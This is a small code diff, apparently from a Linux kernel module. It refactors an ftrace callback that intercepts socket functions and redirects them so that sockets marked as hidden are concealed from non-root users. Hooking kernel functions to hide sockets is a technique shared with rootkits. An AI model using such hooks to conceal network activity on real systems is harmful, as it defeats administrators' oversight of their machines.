@@ -84,18 +84,14 @@ static void notrace uvn_intercept_sockets_handler(unsigned long ip,
 						  struct ftrace_ops *ops,
 						  struct ftrace_regs *fregs)
 {
-	const struct uvn_hook *hook;
 	const struct sock *sk;
 
 	/* The system sees all. */
 	if (uid_eq(current_uid(), GLOBAL_ROOT_UID))
 		return;
 	sk = uvn_intercept_sockets_of(ip, fregs);
-	if (!sk || !uvn_sockets_hides(sk))
-		return;
-	hook = uvn_hook_find(uvn_intercept_sockets_places, ip);
-	if (likely(hook))
-		uvn_hook_redirect(hook, fregs);
+	if (sk && uvn_sockets_hides(sk))
+		uvn_hook_redirect_at(uvn_intercept_sockets_places, ip, fregs);
 }
 
 static struct ftrace_ops uvn_intercept_sockets_ops = {
